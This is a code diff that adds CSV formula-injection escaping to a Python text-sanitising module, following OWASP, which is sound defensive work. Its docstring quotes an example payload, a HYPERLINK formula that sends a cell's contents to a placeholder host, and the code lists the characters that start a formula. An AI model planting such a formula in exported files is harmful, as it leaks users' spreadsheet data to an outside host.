@@ -35,3 +35,16 @@ def printable(text: object) -> str:
     if not _UNSAFE.search(text):
         return text
     return _UNSAFE.sub(_escape, text.replace("\\", "\\\\"))
+
+
+# OWASP's list for CSV injection: a cell starting with one of these is a formula to Excel,
+# LibreOffice and Google Sheets (tab and carriage return are already escaped by `printable`).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cell(text: object) -> str:
+    """`printable(text)`, with a leading ' when it would start a formula: a class named
+    `=HYPERLINK("http://x/?"&A1)` is then shown as text, as OWASP recommends. The quote is
+    what a spreadsheet shows; a CSV reader sees it as part of the value (`'=x`)."""
+    text = printable(text)
+    return "'" + text if text.startswith(_FORMULA_START) else text
